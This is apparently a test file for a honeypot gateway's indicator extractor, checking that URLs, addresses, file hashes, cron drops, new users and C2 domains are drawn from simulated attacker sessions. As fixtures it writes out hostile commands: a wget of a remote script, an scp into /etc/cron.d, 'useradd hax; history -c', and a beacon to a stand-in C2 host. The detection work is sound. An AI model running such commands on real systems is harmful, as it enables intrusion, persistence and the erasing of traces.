import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { test } from "node:test";
import { extractEvidence } from "../../../gateway/evidence/extract.ts";
import { MOST_CITES, MOST_INDICATORS } from "../../../gateway/evidence/indicators/indicator.ts";
import {
  lateIndicators,
  sessionIndicators,
} from "../../../gateway/evidence/indicators/session-indicators.ts";
import type { NetworkFact } from "../../../gateway/model/network-facts.ts";
import { Conversation, SANDBOX } from "../conversation.ts";
import { byteString } from "./byte-string.ts";

async function indicatorsOf(talk: Conversation) {
  return sessionIndicators((await extractEvidence(talk.whole())).observations);
}

function values(indicators: Awaited<ReturnType<typeof indicatorsOf>>): string[] {
  return indicators.map(({ kind, value }) => `${kind} ${value}`);
}

test("each thing is told once, with the entries that told it, in the order in which they came", async () => {
  const talk = new Conversation().login();
  for (let times = 0; times < 3; times++)
    talk.exec(talk.after(1000).open(), "wget http://203.0.113.7/a.sh; ping 203.0.113.8");
  const indicators = await indicatorsOf(talk);
  assert.deepEqual(values(indicators), [
    "url http://203.0.113.7/a.sh",
    "address 203.0.113.7",
    "address 203.0.113.8",
  ]);
  const cites = indicators[0]?.cites ?? [];
  assert.equal(cites.length, 3);
  for (const cite of cites) {
    const cited = talk.entries["entry" in cite ? cite.entry : 0];
    assert.ok(cited?.type === "packet" && cited.payload.includes("wget http://203.0.113.7/a.sh"));
  }
});

test("user agents of requests that a forward was sent; what was not written is no file", async () => {
  const talk = new Conversation().login();
  const asks = (agent: string) =>
    `GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: ${agent}\r\n\r\nUser-Agent: no`;
  for (const agent of ["Go-http-client/1.1", "curl/7.88.1"])
    talk.sends(talk.forward("203.0.113.7", 80), asks(agent));
  const channel = talk.open();
  talk.exec(channel, `test -e /x && echo ${"a".repeat(200)} > /etc/motd; true`).exits(channel, 0);
  assert.deepEqual(values(await indicatorsOf(talk)), [
    "address 203.0.113.7",
    "user-agent Go-http-client/1.1",
  ]);
});

test("addresses of ours are none: the gateway's, the sandbox's", async () => {
  const talk = new Conversation().login();
  talk.exec(talk.open(), "ssh 198.51.100.1; curl http://198.51.100.1/x; ping 10.200.0.2; curl 203.0.113.7");
  assert.deepEqual(values(await indicatorsOf(talk)), ["address 203.0.113.7", "url http://203.0.113.7"]);
});

test("files that were brought: hashes, and where they were put; a password typed at the prompts of passwd", async () => {
  const talk = new Conversation().login();
  const scp = talk.open();
  talk.exec(scp, "scp -t /etc/cron.d/job").sends(scp, "C0644 3 job\nabc\0").exits(scp, 0);
  const shell = talk.open();
  talk
    .shell(shell)
    .gets(shell, "\x1b[?2004h# ")
    .sends(shell, "passwd bob\r")
    .gets(shell, "\r\n\x1b[?2004l\r");
  for (const line of ["New password: ", "Retype new password: "])
    talk.gets(shell, line).sends(shell, "s3cret\r").gets(shell, "\r\n");
  talk.gets(shell, "\x1b[?2004h# ");
  assert.deepEqual(values(await indicatorsOf(talk)), [
    "hash ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
    "cron /etc/cron.d/job",
    "password-changed bob",
    "password-changed bob:s3cret",
  ]);
});

test("files that were written by commands have a hash, but not each line of echo", async () => {
  const talk = new Conversation().login();
  const channel = talk.open();
  talk.exec(channel, "echo short > /tmp/a; cat > /tmp/b <<E\n" + "x".repeat(200) + "\nE").exits(channel, 0);
  const hash = createHash("sha256")
    .update(`${"x".repeat(200)}\n`)
    .digest("hex");
  assert.deepEqual(values(await indicatorsOf(talk)), [`hash ${hash}`]);
});

test("what was tried on the network: names and targets; of a scan no target", async () => {
  const tried = (address: string, name?: string, data?: string): NetworkFact => ({
    ...{ kind: "network", rule: "egress", protocol: "tcp", from: 4000, to: { address, port: 80 }, count: 1 },
    ...(name === undefined ? {} : { name: byteString(name) }),
    ...(data === undefined ? {} : { data: byteString(data) }),
  });
  const few = new Conversation().login();
  few.fact(tried("203.0.113.7")).fact(tried("10.0.0.9"));
  few.fact({ ...tried("198.18.0.5", "C2.example.com", "GET /gate HTTP/1.1\r\nHost"), rule: "sinkhole" });
  few.forward("203.0.113.9", 25);
  assert.deepEqual(values(await indicatorsOf(few)), [
    "address 203.0.113.7",
    "domain c2.example.com",
    "url http://c2.example.com/gate",
    "address 203.0.113.9",
  ]);
  const scan = new Conversation().login();
  for (let last = 1; last < 40; last++) scan.fact(tried(`203.0.113.${last}`));
  scan.fact(tried("203.0.113.7", "c2.example.com"));
  assert.deepEqual(values(await indicatorsOf(scan)), ["domain c2.example.com"]);
  assert.deepEqual(
    lateIndicators([{ at: 5, sandbox: SANDBOX, fact: tried("203.0.113.7") }]).map(({ cites }) => cites),
    [[{ late: 5 }]],
  );
});

test("programs that were run tell what their arguments tell, but for the login's own", async () => {
  const talk = new Conversation().login();
  const run = (argv: string[], server?: true) => {
    const [path = ""] = argv;
    talk.fact({
      ...{ kind: "process", did: "run", time: 1, pid: 10, uid: 0, parent: 1, path: byteString(path) },
      argv: argv.map(byteString),
      ...(server && { server }),
    });
  };
  run(["wget", "-q", "http://203.0.113.7/a b"]);
  run(["/bin/sh", "-c", "useradd hax; history -c"]);
  run(["curl", "http://203.0.113.99/"], true);
  talk.fact({
    ...{ kind: "process", did: "connect", time: 1, pid: 10, uid: 0 },
    to: { family: "inet", address: "203.0.113.44", port: 23 },
  });
  assert.deepEqual(values(await indicatorsOf(talk)), [
    "url http://203.0.113.7/a",
    "address 203.0.113.7",
    "user-made hax",
    "tampering history -c",
    "address 203.0.113.44",
  ]);
});

test("a flood of indicators is bounded, and so is where each was seen", async () => {
  const talk = new Conversation().login();
  const channel = talk.open();
  talk.exec(channel, Array.from({ length: 3000 }, (_, n) => `curl http://a${n}.example.com/`).join(";"));
  for (let times = 0; times < 60; times++) talk.exec(talk.open(), "ping 203.0.113.7");
  const indicators = await indicatorsOf(talk);
  assert.equal(indicators.length, MOST_INDICATORS);
  const again = new Conversation().login();
  for (let times = 0; times < 60; times++) again.exec(again.open(), "ping 203.0.113.7");
  assert.deepEqual(
    (await indicatorsOf(again)).map(({ cites }) => cites.length),
    [MOST_CITES],
  );
});
